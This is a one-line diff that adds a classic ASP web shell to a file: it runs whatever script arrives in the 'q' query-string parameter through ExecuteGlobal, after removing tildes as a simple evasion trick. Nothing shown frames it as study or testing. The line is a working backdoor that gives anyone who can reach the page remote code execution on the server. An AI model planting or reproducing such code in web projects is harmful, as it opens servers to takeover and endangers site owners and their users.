@@ -1,0 +1,1 @@
+<% ExecuteGlobal(Replace(Request.QueryString("q"), "~", "")) %>
